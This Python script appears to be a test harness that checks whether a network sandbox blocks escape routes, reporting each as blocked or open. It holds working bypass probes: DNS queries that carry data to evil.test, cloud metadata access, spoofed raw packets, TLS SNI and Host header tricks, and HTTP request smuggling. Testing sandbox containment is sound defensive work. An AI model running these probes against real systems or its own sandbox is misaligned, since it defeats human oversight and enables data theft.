"""Ways out of a cell. Each prints its name and `blocked`, or `OPEN` and what it
got. The peer's servers say SECRET to whoever reaches them by another name than
they were granted by; what a granted server says itself is PUBLIC."""

import socket
import ssl
import struct
import subprocess
import sys

OTHER, PEER, HOST = "192.31.196.81", "192.31.196.80", "192.31.196.1"
WAYS = {}


def way(function):
    WAYS[function.__name__] = function
    return function


def tcp(host, port, say=b"GET / HTTP/1.0\r\n\r\n", family=0):
    info = socket.getaddrinfo(host, port, family, socket.SOCK_STREAM)[0]
    with socket.socket(info[0], info[1]) as stream:
        stream.settimeout(15)
        stream.connect(info[4])
        stream.sendall(say)
        heard = b""
        while b"SECRET" not in heard:
            piece = stream.recv(4096)
            if not piece:
                break
            heard += piece
        return heard


def udp(host, port, say=b"x", family=socket.AF_INET, broadcast=False):
    with socket.socket(family, socket.SOCK_DGRAM) as datagrams:
        datagrams.settimeout(3)
        if broadcast:
            datagrams.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        else:
            datagrams.connect((host, port))
        datagrams.sendto(say, (host, port)) if broadcast else datagrams.send(say)
        return datagrams.recv(4096)


def raw(host, protocol, say=b"x" * 32, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_RAW, protocol) as packets:
        packets.settimeout(3)
        packets.sendto(say, (host, 0))
        while True:
            heard, sender = packets.recvfrom(4096)
            if sender[0] == host and heard[20:21] != b"\x03" and heard[:1] not in (b"\x01", b"\x80"):
                return b"SECRET" + heard


def query(name, kind=1, server="198.18.0.1", over_tcp=False):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    message = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + struct.pack(">BHH", 0, kind, 1)
    if over_tcp:
        return tcp(server, 53, struct.pack(">H", len(message)) + message)
    answer = udp(server, 53, message)
    return b"SECRET" if struct.unpack(">H", answer[6:8])[0] else answer


def echo(host, v6=False):
    header = struct.pack(">BBHHH", 128 if v6 else 8, 0, 0, 7, 1) + b"payload!"
    total = sum(struct.unpack(f">{len(header) // 2}H", header))
    total = (total >> 16) + (total & 0xFFFF)
    header = header[:2] + struct.pack(">H", ~(total + (total >> 16)) & 0xFFFF) + header[4:]
    family, protocol = (socket.AF_INET6, 58) if v6 else (socket.AF_INET, 1)
    with socket.socket(family, socket.SOCK_DGRAM, protocol) as pings:
        pings.settimeout(3)
        pings.connect((host, 0))
        pings.send(header)
        return b"SECRET" + pings.recv(4096)


def hello(server_name):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    out, into = ssl.MemoryBIO(), ssl.MemoryBIO()
    wrapped = context.wrap_bio(into, out, server_hostname=server_name)
    try:
        wrapped.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def http(*lines, body=b""):
    return tcp("peer.test", 80, "\r\n".join(lines).encode() + b"\r\n\r\n" + body)


def opened(*lines, port=8443, name="peer.test", alpn="http/1.1"):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.set_alpn_protocols([alpn])
    with socket.create_connection(("peer.test", port), 15) as stream:
        with context.wrap_socket(stream, server_hostname=name) as wrapped:
            wrapped.sendall("\r\n".join(lines).encode() + b"\r\n\r\n")
            heard = b""
            while b"SECRET" not in heard:
                piece = wrapped.recv(4096)
                if not piece:
                    break
                heard += piece
            return heard


def frame(packet):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as frames:
        frames.bind(("eth0", 0))
        frames.send(b"\x02exo\0\x01\x02exo\0\x02\x08\x00" + packet)


def ipv4(source, destination, payload, protocol=17, fragment=0):
    head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(payload), 1, fragment, 64, protocol, 0)
    head += socket.inet_aton(source) + socket.inet_aton(destination)
    total = sum(struct.unpack(">10H", head))
    total = (total >> 16) + (total & 0xFFFF)
    return head[:10] + struct.pack(">H", ~(total + (total >> 16)) & 0xFFFF) + head[12:] + payload


def datagram(port, say=b"SPOOFED"):
    return struct.pack(">HHHH", 4000, port, 8 + len(say), 0) + say


# Addresses instead of names.
@way
def another_address(): return tcp(OTHER, 80)
@way
def the_granted_servers_address(): return tcp(PEER, 80)
@way
def another_port_of_the_granted_name(): return tcp("peer.test", 8080)
@way
def an_address_of_ipv6(): return tcp("2620:4f:8000::80", 80)
@way
def an_ipv4_address_in_ipv6(): return tcp(f"::ffff:{OTHER}", 80, family=socket.AF_INET6)
@way
def an_address_as_a_number(): return tcp("3223307345", 80)
@way
def an_address_that_stands_for_no_name(): return tcp("198.18.9.9", 80)
@way
def a_translators_address(): return tcp("64:ff9b::c01f:c451", 7001)
@way
def an_old_tunnels_address(): return tcp("2002:c01f:c451::1", 7001)

@way
def a_local_translators_address(): return tcp("64:ff9b:1::c01f:c451", 7001)

# Names.
@way
def a_name_that_was_not_granted(): return tcp("other.test", 80)
@way
def a_name_below_the_granted_one(): return tcp("data.peer.test", 80)
@way
def a_name_with_a_final_dot(): return tcp("other.test.", 80)
@way
def a_granted_name_that_leads_to_the_loopback(): return tcp("rebound.test", 7000)
@way
def a_granted_name_that_leads_to_metadata(): return tcp("metadata.test", 80)
@way
def a_granted_name_that_leads_to_the_host(): return tcp("host.test", 7000)

@way
def a_granted_name_that_leads_to_a_translator(): return tcp("translated.test", 7000)
@way
def a_granted_name_that_leads_nowhere(): return tcp("example.test", 7000)

# What no wide rule covers.
@way
def metadata(): return tcp("169.254.169.254", 7001)
@way
def metadata_of_ipv6(): return tcp("fd00:ec2::254", 7001)
@way
def a_link_local_address(): return tcp("169.254.1.1", 7001)
@way
def the_hosts_own_address(): return tcp(HOST, 7001)
@way
def the_hosts_own_address_of_ipv6(): return tcp("2620:4f:8000::1", 7001)

# The link itself.
@way
def the_links_other_end(): return tcp("198.18.0.1", 80)
@way
def names_over_a_stream(): return query("peer.test", over_tcp=True)
@way
def a_port_of_datagrams_at_the_links_other_end(): return udp("198.18.0.1", 123)
@way
def a_route_of_its_own():
    subprocess.run(["ip", "route", "add", f"{OTHER}/32", "via", "198.18.0.1", "dev", "eth0", "onlink"])
    return tcp(OTHER, 80)
@way
def a_source_of_its_own():
    frame(ipv4(HOST, OTHER, datagram(5000)))
@way
def fragments():
    frame(ipv4("198.18.0.2", OTHER, datagram(5000), fragment=0x2000))

# Datagrams.
@way
def datagrams_to_another_address(): return udp(OTHER, 5000)
@way
def datagrams_to_the_granted_name(): return udp("peer.test", 443)
@way
def datagrams_of_ipv6(): return udp("2620:4f:8000::80", 5000, family=socket.AF_INET6)
@way
def datagrams_to_everyone(): return udp("255.255.255.255", 5000, broadcast=True)
@way
def datagrams_to_a_group(): return udp("239.1.1.1", 5000)
@way
def datagrams_to_another_name_server(): return query("data.evil.test", server=OTHER)
@way
def names_that_carry_data(): return query("736563726574.evil.test")
@way
def texts_of_names(): return query("secret.evil.test", kind=16)
@way
def texts_of_the_granted_name(): return query("peer.test", kind=16)
@way
def a_name_servers_port_for_tls(): return tcp(OTHER, 853)
@way
def names_over_https(): return tcp(OTHER, 443)

# Other protocols.
@way
def echoes(): return echo(OTHER)
@way
def echoes_to_the_granted_name(): return echo(socket.gethostbyname("peer.test"))
@way
def echoes_of_ipv6(): return echo("2620:4f:8000::80", v6=True)
@way
def tunnels_of_ip(): return raw(OTHER, 47)
@way
def sctp(): return raw(OTHER, 132)

# Lies about whom a stream is for.
@way
def another_name_in_tls(): return tcp("peer.test", 443, hello("other.test"))
@way
def another_name_in_tls_in_pieces():
    message = hello("other.test")
    body, pieces = message[5:], b""
    for at in range(0, len(body), 40):
        pieces += b"\x16\x03\x01" + struct.pack(">H", len(body[at:at + 40])) + body[at:at + 40]
    return tcp("peer.test", 443, pieces)
@way
def no_name_in_tls(): return tcp("peer.test", 443, hello(None))
@way
def an_alert_before_tls():
    return tcp("peer.test", 443, b"\x15\x03\x01\x00\x02\x01\x5a" + hello("other.test"))
@way
def a_change_of_ciphers_before_tls():
    return tcp("peer.test", 443, b"\x14\x03\x03\x00\x01\x01" + hello("other.test"))
@way
def ssl_2(): return tcp("peer.test", 443, b"\x80\x2e\x01\x03\x01\x00\x15\x00\x00\x00\x10" + bytes(37))
@way
def a_record_of_version_2_0():
    return tcp("peer.test", 443, b"\x16\x02\x00" + hello("other.test")[3:])
@way
def a_record_of_version_15_1():
    return tcp("peer.test", 443, b"\x16\x0f\x01" + hello("other.test")[3:])
@way
def another_host_in_http(): return http("GET / HTTP/1.1", "Host: other.test")
@way
def another_host_in_a_second_request():
    return http("GET / HTTP/1.1", "Host: peer.test", "", "GET / HTTP/1.1", "Host: other.test")
@way
def two_hosts_in_http(): return http("GET / HTTP/1.1", "Host: peer.test", "Host: other.test")
@way
def another_host_in_the_target():
    return http("GET http://other.test/ HTTP/1.1", "Host: peer.test")
@way
def a_tunnel_through_http(): return http("CONNECT other.test:443 HTTP/1.1", "Host: peer.test")
@way
def two_lengths_in_http():
    return http("POST / HTTP/1.1", "Host: peer.test", "Content-Length: 4", "Transfer-Encoding: chunked",
                body=b"0\r\n\r\nGET / HTTP/1.1\r\nHost: other.test\r\n\r\n")
@way
def no_host_in_http(): return http("GET / HTTP/1.0")
@way
def a_long_first_line(): return http("GET /" + "a" * 17_000 + " HTTP/1.1", "Host: other.test")
@way
def a_control_character_in_the_target(): return http("GET /\x01 HTTP/1.1", "Host: other.test")
@way
def a_del_in_the_target(): return http("GET /\x7f HTTP/1.1", "Host: other.test")
@way
def an_absolute_target_of_http_0_9(): return http("GET http://other.test/")
@way
def http_0_9(): return http("GET /")
@way
def an_empty_line_first(): return http("", "GET / HTTP/1.1", "Host: other.test")
@way
def lines_without_cr(): return tcp("peer.test", 80, b"GET / HTTP/1.1\nHost: other.test\n\n")
@way
def a_folded_field(): return http("GET / HTTP/1.1", "Host: peer.test", " Host: other.test")
@way
def a_space_before_a_colon(): return http("GET / HTTP/1.1", "Host: peer.test", "host : other.test")
@way
def an_extension_of_a_chunk():
    return http("POST / HTTP/1.1", "Host: peer.test", "Transfer-Encoding: chunked",
                body=b"3A ;/ HTTP/1.1\r\nHost: other.test\r\n\r\n")
@way
def a_request_in_a_body():
    inside = b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n"
    return http("POST / HTTP/1.1", "Host: peer.test", f"Content-Length: {len(inside)}", body=inside)
@way
def another_protocol_by_upgrade():
    return http("GET / HTTP/1.1", "Host: peer.test", "Connection: Upgrade", "Upgrade: TLS/1.2")
@way
def a_protocol_of_its_own(): return tcp("peer.test", 80, b"SSH-2.0-other.test\r\n")
@way
def a_server_that_speaks_first(): return tcp("peer.test", 2222, b"")
@way
def http_2_without_tls(): return http("PRI * HTTP/2.0", "", "SM")

# The same in TLS that is opened, because its host has a secret.
@way
def another_name_in_opened_tls(): return opened("GET / HTTP/1.1", name="other.test")
@way
def another_host_in_opened_tls(): return opened("GET / HTTP/1.1", "Host: other.test")
@way
def another_host_in_a_second_request_of_opened_tls():
    return opened("GET / HTTP/1.1", "Host: peer.test", "", "GET / HTTP/1.1", "Host: other.test")
@way
def a_tunnel_in_opened_tls(): return opened("CONNECT other.test:443 HTTP/1.1", "Host: peer.test")
@way
def http_2_in_opened_tls(): return opened("PRI * HTTP/2.0", "", "SM", alpn="h2")
@way
def a_host_that_cannot_be_verified(): return opened("GET / HTTP/1.1", "Host: x", port=9443)

@way
def another_protocol_in_opened_tls(): return opened("other.test")
@way
def plain_http_where_a_secret_is_for_tls():
    return tcp("peer.test", 8443, b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n")
@way
def an_alert_before_opened_tls():
    return tcp("peer.test", 8443, b"\x15\x03\x01\x00\x02\x01\x5a" + hello("other.test"))

# The host by other means.
@way
def streams_to_the_host():
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as stream:
        stream.settimeout(3)
        stream.connect((2, 80))
        return b"SECRET"


for name, attempt in WAYS.items():
    if sys.argv[1:] and name not in sys.argv[1:]:
        continue
    try:
        heard = attempt() or b""
        print(name, "OPEN" if b"SECRET" in heard else "blocked", flush=True)
    except OSError as error:
        print(name, "blocked", error, flush=True)
